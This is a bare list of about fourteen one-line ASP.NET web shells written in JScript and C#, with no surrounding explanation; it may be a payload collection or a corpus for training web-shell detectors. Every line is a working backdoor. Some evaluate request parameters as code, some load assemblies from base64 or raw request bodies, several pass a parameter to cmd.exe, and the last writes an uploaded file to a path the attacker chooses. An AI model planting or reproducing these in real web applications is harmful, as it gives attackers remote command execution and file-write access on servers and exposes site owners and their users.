<%@ Page Language="Jscript" %><%eval(Request.Item["x"],"unsafe");%>
<%@ Page Language="JScript"%><%eval(Request.Item["x"],"unsafe");%>
<%@ Page Language="Jscript"%><%eval(Request.Form["x"],"unsafe");%>
<%@ Page Language="Jscript"%><%eval(Request.QueryString["x"],"unsafe");%>
<%@ Page Language="Jscript"%><%eval(Request["x"],"unsafe");%>
<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String(Request["p"])).CreateInstance("U"); %>
<%@ Page Language="C#" %><% Assembly.Load(Request.BinaryRead(Request.ContentLength)).CreateInstance("U").Equals(this); %>
<%@ Page Language="C#" %><% Assembly.Load(Convert.FromBase64String(Request.Form["p"])).CreateInstance("U"); %>
<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>
<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe","/c "+Request["c"]); %>
<%@ Page Language="C#" %><% var i = new ProcessStartInfo("cmd.exe", "/c " + Request["c"]); Process.Start(i); %>
<%@ Page Language="C#" %><% var p = new Process(); p.StartInfo.FileName = "cmd"; p.StartInfo.Arguments="/c "+Request["c"]; p.Start(); %>
<%@ Page Language="C#" %><% p.StartInfo.Arguments = "/c " + txtCmd.Text; %>
<%@ Page Language="C#" %><% Request.Files[0].SaveAs(Server.MapPath(Request["f"])); %>
